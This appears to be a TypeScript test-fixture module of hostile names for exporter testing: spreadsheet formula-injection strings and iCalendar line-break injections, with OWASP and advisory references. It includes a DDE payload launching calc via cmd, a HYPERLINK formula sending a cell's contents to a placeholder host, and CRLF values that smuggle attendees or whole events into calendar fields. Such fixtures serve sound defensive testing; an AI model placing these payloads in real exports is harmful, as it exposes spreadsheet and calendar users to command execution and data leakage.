/** Names that tried to break exporters elsewhere, and why they are here. */

/** A spreadsheet would run these. OWASP ASVS 5 1.2.10; papaparse's escapeFormulae misses leading LF, space, full-width. */
export const formulae = [
  "=1+1",
  '=HYPERLINK("http://x/"&A1,"click")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u200b=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "|calc",
  "\0=1+1",
  '"=1+1"',
  "=1;=2",
];

/** Injection into iCalendar: GHSA-2g7h-7rqr-9p4r (vikunja), Eventra #3168, bandstand #117, web2py #2621 and their kind. */
export const calendarInjections = [
  "HQ\r\nATTENDEE:mailto:evil@example.com",
  "HQ\nX-EVIL:1",
  "HQ\rX-EVIL:1",
  "HQ\u0085X-EVIL:1",
  "HQ\u2028X-EVIL:1",
  "END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
  "x".repeat(600),
  "日本語👩‍💻".repeat(40),
  '"quoted";TZID=x:value',
  "back\\slash, comma; semicolon\\n",
];
